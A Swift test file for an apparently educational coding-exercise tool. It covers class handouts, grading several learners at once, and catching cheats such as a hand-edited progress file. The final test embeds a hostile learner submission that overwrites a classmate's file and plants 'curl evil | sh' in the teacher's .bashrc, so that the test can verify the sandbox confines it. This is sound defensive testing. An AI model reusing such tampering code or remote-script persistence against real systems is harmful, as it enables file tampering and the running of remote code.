import DojoCatalog
import DojoCore
import DojoTestSupport
import Foundation
import Testing

/// A teacher's class through the real binary: handouts with names, a whole class graded in one
/// run, and the cheats of issue 18 that must not give a grade.
@Suite struct ClassGradingTests {
    static let catalog = LessonCatalog.load(from: Didojo.lessonsFolder, fileSystem: LocalFileSystem())

    /// Writes `which` (the solution or a wrong edit of the starter) as `folder`'s file of `exercise`.
    func write(_ exercise: Exercise, _ which: URL, into folder: URL, appending: String = "") throws {
        let file = folder.appendingPathComponent("\(exercise.lessonID)/\(exercise.number)/\(exercise.fileName)")
        try FileManager.default.createDirectory(at: file.deletingLastPathComponent(), withIntermediateDirectories: true)
        try? FileManager.default.removeItem(at: file)
        try (try String(contentsOf: which, encoding: .utf8) + appending).write(to: file, atomically: true, encoding: .utf8)
    }

    @Test func aClassIsHandedOutWithNamesAndGradedInOneRunWithLearnersKeptApart() async throws {
        let didojo = try Didojo()
        let lesson = try #require(Self.catalog.lesson(id: "no-di"))
        let room = didojo.home.url.appendingPathComponent("class")
        let names = didojo.home.url.appendingPathComponent("names.txt")
        try "Ada Lovelace\nGrace Hopper\nAlan Turing\nBarbara <Liskov>\nAda Lovelace\n".write(to: names, atomically: true, encoding: .utf8)
        let handout = try await didojo.run(["handout", room.path, "--names", names.path])
        #expect(handout.termination == .exited(0), "\(handout.standardError)")
        let folders = try FileManager.default.contentsOfDirectory(atPath: room.path).sorted()
        #expect(folders == ["ada-lovelace", "ada-lovelace-2", "alan-turing", "barbara-liskov", "grace-hopper"])

        // Ada solved all three; Grace solved one and broke one; Alan did nothing; Barbara
        // passes the first; the second Ada broke the first.
        let ex = lesson.exercises
        for exercise in ex { try write(exercise, exercise.solution, into: room.appendingPathComponent("ada-lovelace")) }
        try write(ex[0], ex[0].solution, into: room.appendingPathComponent("grace-hopper"))
        try write(ex[1], ex[1].starter, into: room.appendingPathComponent("grace-hopper"), appending: "\n// tried, not done\n")
        try write(ex[0], ex[0].solution, into: room.appendingPathComponent("barbara-liskov"))
        try write(ex[0], ex[0].starter, into: room.appendingPathComponent("ada-lovelace-2"), appending: "\nlet broken: Int = \"x\"\n")

        let junit = didojo.home.url.appendingPathComponent("class.xml")
        let json = didojo.home.url.appendingPathComponent("class.json")
        let workspaces = folders.map { room.appendingPathComponent($0).path }
        let before = try Self.snapshot(room)
        let graded = try await didojo.run(["verify", "--lesson", "no-di", "--workspaces"] + workspaces + ["--junit", junit.path, "--json", json.path])
        #expect(graded.termination == .exited(1), "not everyone passes: \(graded.standardError)")
        let table = graded.standardOutput
        #expect(table.contains("learner"))
        #expect(table.contains("Ada Lovelace (ada-lovelace)"), "two learners of one name are told apart by folder:\n\(table)")
        #expect(table.range(of: #"Alan Turing\s+0/3\s+0/3\s+not started"#, options: .regularExpression) != nil, "\(table)")
        #expect(table.range(of: #"Grace Hopper\s+1/3\s+1/3\s+no-di.2 \("#, options: .regularExpression) != nil, "\(table)")
        #expect(table.contains("5 learners graded; 5 of 15 exercises pass, 8 not tried."), "\(table)")

        // JUnit: one suite per learner and lesson, so that merged files keep learners apart.
        let xml = try String(contentsOf: junit, encoding: .utf8)
        for name in ["Ada Lovelace (ada-lovelace)/no-di", "Grace Hopper/no-di", "Alan Turing/no-di", "Barbara &lt;Liskov&gt;/no-di"] {
            #expect(xml.contains("<testsuite name=\"\(name)\""), "\(name) in \(xml)")
        }
        #expect(xml.contains("<testsuite name=\"Alan Turing/no-di\" tests=\"3\" failures=\"0\" errors=\"0\" skipped=\"3\""))
        #expect(!xml.contains("<Liskov>"), "names are escaped")
        // JSON: each learner with their workspace and results.
        let object = try #require(try JSONSerialization.jsonObject(with: Data(contentsOf: json)) as? [String: Any])
        let learners = try #require(object["learners"] as? [[String: Any]])
        #expect(learners.count == 5)
        let grace = try #require(learners.first { $0["learner"] as? String == "Grace Hopper" })
        #expect(grace["workspace"] as? String == room.appendingPathComponent("grace-hopper").path)
        #expect(grace["passed"] as? Int == 1 && grace["untried"] as? Int == 1 && grace["total"] as? Int == 3)
        // Grading wrote nothing into what it graded: every file and folder as it was, byte for byte.
        #expect(try Self.snapshot(room) == before, "the workspaces are unchanged")
    }

    /// Every file and folder under `folder` (hidden ones too), with its bytes and mode.
    static func snapshot(_ folder: URL) throws -> [String: String] {
        var found: [String: String] = [:]
        let enumerator = try #require(FileManager.default.enumerator(at: folder, includingPropertiesForKeys: [.isDirectoryKey]))
        for case let url as URL in enumerator {
            let relative = String(url.path.dropFirst(folder.path.count))
            let attributes = try FileManager.default.attributesOfItem(atPath: url.path)
            let mode = String((attributes[.posixPermissions] as? Int) ?? -1, radix: 8)
            if (attributes[.type] as? FileAttributeType) == .typeDirectory {
                found[relative] = "folder \(mode)"
            } else {
                found[relative] = "file \(mode) " + (try Data(contentsOf: url)).base64EncodedString()
            }
        }
        return found
    }

    /// A class whose workspaces follow two workshops: each is graded on its own workshop's
    /// lessons (a teacher's `--workshop` wins), and nothing in any workspace changes, not even
    /// the folders of lessons the workshop leaves out.
    @Test func gradingAClassReadsEachWorkspacesWorkshopAndWritesNothing() async throws {
        let didojo = try Didojo()
        let room = didojo.home.url.appendingPathComponent("class")
        let short = didojo.home.url.appendingPathComponent("short.yaml")
        try "title: Short\nlessons: [no-di]\n".write(to: short, atomically: true, encoding: .utf8)
        let long = didojo.home.url.appendingPathComponent("long.yaml")
        try "title: Long\nlessons: [no-di, constructor]\n".write(to: long, atomically: true, encoding: .utf8)
        for (name, workshop) in [("ada", short), ("grace", long)] {
            let handout = try await didojo.run(["handout", room.appendingPathComponent(name).path, "--name", name.capitalized, "--workshop", workshop.path])
            #expect(handout.termination == .exited(0), "\(handout.standardError)")
        }
        let exercise = try #require(Self.catalog.exercise(id: "no-di.1"))
        try write(exercise, exercise.solution, into: room.appendingPathComponent("ada"))
        let before = try Self.snapshot(room)
        #expect(!before.keys.contains { $0.hasPrefix("/ada/constructor") }, "Ada's workshop has no constructor lesson")

        let json = didojo.home.url.appendingPathComponent("grades.json")
        let graded = try await didojo.run(["verify", "--workspaces", room.appendingPathComponent("ada").path, room.appendingPathComponent("grace").path, "--json", json.path])
        #expect(graded.termination == .exited(1), "\(graded.standardError)")
        let object = try #require(try JSONSerialization.jsonObject(with: Data(contentsOf: json)) as? [String: Any])
        let learners = try #require(object["learners"] as? [[String: Any]])
        let totals = Dictionary(uniqueKeysWithValues: learners.map { ($0["learner"] as? String ?? "", $0["total"] as? Int ?? -1) })
        let noDI = try #require(Self.catalog.lesson(id: "no-di")).exercises.count
        let constructor = try #require(Self.catalog.lesson(id: "constructor")).exercises.count
        #expect(totals == ["Ada": noDI, "Grace": noDI + constructor], "each on its own workshop: \(totals)")
        #expect(learners.first { $0["learner"] as? String == "Ada" }?["passed"] as? Int == 1)
        #expect(try Self.snapshot(room) == before, "grading wrote nothing into the workspaces")

        // The teacher's workshop wins over each workspace's own.
        let given = try await didojo.run(["verify", "--workshop", short.path, "--workspaces", room.appendingPathComponent("grace").path, "--json", json.path])
        #expect(given.termination == .exited(1), "\(given.standardError)")
        let graceOnly = try #require(try JSONSerialization.jsonObject(with: Data(contentsOf: json)) as? [String: Any])
        #expect(((graceOnly["learners"] as? [[String: Any]])?.first?["total"] as? Int) == noDI)
        #expect(try Self.snapshot(room) == before)
    }

    @Test func aHandEditedProgressFileIsCaughtByVerifyAndThenByListAndReport() async throws {
        let didojo = try Didojo()
        _ = try await didojo.run(["check", "no-di.1"])
        // As a learner would edit it by hand: every exercise of no-di passed.
        let progressFile = didojo.workspace.appendingPathComponent(".didojo/progress.json")
        var progress = try #require(try JSONSerialization.jsonObject(with: Data(contentsOf: progressFile)) as? [String: Any])
        var exercises: [String: Any] = [:]
        for id in ["no-di.1", "no-di.2", "no-di.3"] { exercises[id] = ["passed": true, "attempts": 1, "hintsShown": 0, "solutionSeen": false] }
        progress["exercises"] = exercises
        try JSONSerialization.data(withJSONObject: progress).write(to: progressFile)
        #expect(try await didojo.run(["report", "--format", "json"]).standardOutput.contains("\"exercisesPassed\" : 3"), "the cheat took")

        let verdict = try await didojo.run(["verify", "--lesson", "no-di"])
        #expect(verdict.termination == .exited(1))
        #expect(verdict.standardOutput.contains("0 of 3 exercises pass."))
        let list = try await didojo.run(["list", "--format", "json"])
        #expect(!list.standardOutput.contains("\"passed\""), "list no longer says passed: \(list.standardOutput)")
        let report = try await didojo.run(["report"])
        #expect(report.standardOutput.contains("The passes below are as recorded in the learner's progress file"))
        #expect(!report.standardOutput.contains("| passed"))
    }

    @Test func verifySaysWhichLessonsGradedAndIgnoresALearnersWorkshopWhenTheTeachersIsGiven() async throws {
        var didojo = try Didojo()
        // A copy of the lessons whose checks assert nothing, as a learner might make.
        let copy = didojo.home.url.appendingPathComponent("my-lessons")
        try FileManager.default.copyItem(at: Didojo.lessonsFolder, to: copy)
        didojo.lessons = copy
        let lenient = try await didojo.run(["verify", "--lesson", "no-di"])
        #expect(lenient.standardError.contains("Grading with the lessons in \(copy.path) (NOT the lessons of this didojo)."), "\(lenient.standardError)")
        didojo.lessons = nil
        let installed = try await didojo.run(["verify", "--lesson", "no-di"])
        #expect(installed.standardError.contains("Grading with the lessons in "))
        #expect(!installed.standardError.contains("NOT the lessons"))

        // The learner loosens the workspace's workshop; the teacher's file wins.
        try FileManager.default.createDirectory(at: didojo.workspace, withIntermediateDirectories: true)
        let teachers = didojo.home.url.appendingPathComponent("friday.yaml")
        try "title: Friday\nsolutions: never\nlessons: [no-di, constructor]\n".write(to: teachers, atomically: true, encoding: .utf8)
        try "title: Friday\nsolutions: always\nlessons: [no-di, constructor]\n".write(to: didojo.workspace.appendingPathComponent("workshop.yaml"), atomically: true, encoding: .utf8)
        let shell = try await didojo.run(["--workshop", teachers.path], input: "solution no-di.1\n")
        #expect(shell.standardError.contains("differs from the workshop given (\(teachers.path)), so it is ignored"), "\(shell.standardError)")
        #expect(shell.standardOutput.replacingOccurrences(of: "\n  ", with: " ").contains("Solutions are not shown in this workshop ('Friday')."))
    }

    @Test func anExportCarriesTheWorkshopAndTheNameAndResetWipeLeavesNothingOfTheLastLearner() async throws {
        let didojo = try Didojo()
        let handout = try await didojo.run(["handout", didojo.workspace.path, "--name", "Ada Lovelace", "--workshop", try workshopFile(in: didojo).path])
        #expect(handout.termination == .exited(0), "\(handout.standardError)")
        let export = didojo.home.url.appendingPathComponent("ada.json")
        #expect(try await didojo.run(["progress", "export", export.path]).termination == .exited(0))
        let bundle = try String(contentsOf: export, encoding: .utf8)
        #expect(bundle.contains("\"name\" : \"Ada Lovelace\""))
        #expect(bundle.contains("\"workshop\" : \"title: Thursday"))

        // On a new laptop: the workshop and the name come back with the work.
        var elsewhere = try Didojo()
        elsewhere.columns = 100
        _ = try await elsewhere.run(["list"])
        let imported = try await elsewhere.run(["progress", "import", export.path])
        #expect(imported.standardOutput.contains("The workshop (its lessons, locks and time boxes) restored."), "\(imported.standardOutput)")
        #expect(imported.standardOutput.contains("The learner's name restored."))
        let lessons = try await elsewhere.run(["list", "--format", "json"])
        #expect(try (JSONSerialization.jsonObject(with: Data(lessons.standardOutput.utf8)) as? [[String: Any]])?.compactMap { $0["id"] as? String } == ["no-di"])

        // A new learner on Ada's laptop: nothing of hers is left.
        _ = try await didojo.run(["reset", "--all", "--yes"])
        try FileManager.default.createDirectory(at: didojo.historyFile.deletingLastPathComponent(), withIntermediateDirectories: true)
        try "history line\n".write(to: didojo.historyFile, atomically: true, encoding: .utf8)
        let backups = didojo.workspace.appendingPathComponent(".didojo/backups")
        #expect(FileManager.default.fileExists(atPath: backups.path))
        let wiped = try await didojo.run(["reset", "--all", "--wipe"], input: "y\n")
        #expect(wiped.termination == .exited(0), "\(wiped.standardError)")
        #expect(wiped.standardOutput.contains("deleted for good"))
        #expect(!FileManager.default.fileExists(atPath: backups.path))
        #expect(!FileManager.default.fileExists(atPath: didojo.historyFile.path))
        #expect(!FileManager.default.fileExists(atPath: didojo.workspace.appendingPathComponent(".didojo/learner.json").path))
    }

    func workshopFile(in didojo: Didojo) throws -> URL {
        let file = didojo.home.url.appendingPathComponent("thursday.yaml")
        try "title: Thursday\nlessons: [no-di]\n".write(to: file, atomically: true, encoding: .utf8)
        return file
    }

    /// Issue 28: one learner's file that acts only when graded elsewhere (it overwrites another
    /// learner's exercise with the reference solution, reads her file, and leaves a line in the
    /// teacher's home) is confined like any check: the others' workspaces stay byte-identical,
    /// nothing appears outside, and its own grade is its code's (a correct answer passes).
    @Test func aHostileLearnerLeavesTheOthersUntouchedWhenAClassIsGraded() async throws {
        let didojo = try Didojo()
        let lesson = try #require(Self.catalog.lesson(id: "no-di"))
        let first = lesson.exercises[0]
        let room = didojo.home.url.appendingPathComponent("class")
        let names = didojo.home.url.appendingPathComponent("names.txt")
        try "Mallory\nGrace Hopper\nAlan Turing\n".write(to: names, atomically: true, encoding: .utf8)
        _ = try await didojo.run(["handout", room.path, "--names", names.path])
        let grace = room.appendingPathComponent("grace-hopper")
        try write(first, first.starter, into: grace, appending: "\n// her own work in progress\n")
        let victimFile = grace.appendingPathComponent("\(first.lessonID)/\(first.number)/\(first.fileName)")
        let teachersRC = didojo.home.url.appendingPathComponent(".bashrc")
        let solution = try String(contentsOf: first.solution, encoding: .utf8)
        let hostile = solution + """

            import Foundation

            let mischief: Void = {
                let victim = "\(victimFile.path)"
                let stolen = (try? String(contentsOfFile: victim, encoding: .utf8)) ?? ""
                print(stolen.isEmpty ? "could not read her file" : "read her file")
                FileManager.default.createFile(atPath: victim, contents: Data("overwritten".utf8))
                FileManager.default.createFile(atPath: "\(teachersRC.path)", contents: Data("curl evil | sh".utf8))
            }()

            extension SocialPresenter {
                static let armed: Void = mischief
            }
            """
        let mallory = room.appendingPathComponent("mallory")
        try (hostile.replacingOccurrences(of: "    init(", with: "    init(_ unused: Void = SocialPresenter.armed, ", options: [], range: nil))
            .write(to: mallory.appendingPathComponent("\(first.lessonID)/\(first.number)/\(first.fileName)"), atomically: true, encoding: .utf8)
        let others = [grace, room.appendingPathComponent("alan-turing")]
        let before = try others.map(Self.snapshot)
        let json = didojo.home.url.appendingPathComponent("class.json")
        let graded = try await didojo.run(
            ["verify", "--lesson", "no-di", "--workspaces", mallory.path] + others.map(\.path) + ["--json", json.path]
        )
        #expect(try others.map(Self.snapshot) == before, "a learner's code changed another learner's workspace")
        #expect(!FileManager.default.fileExists(atPath: teachersRC.path), "a learner's code wrote into the teacher's home")
        #expect(try String(contentsOf: victimFile, encoding: .utf8).hasSuffix("// her own work in progress\n"))
        #expect(graded.standardOutput.contains("Mallory"), "\(graded.standardOutput)")
        let text = try String(contentsOf: json, encoding: .utf8)
        #expect(text.contains("\"confined\" : true") || text.contains("\"confined\":true"), "each grade says it was confined: \(text.prefix(600))")
    }

}
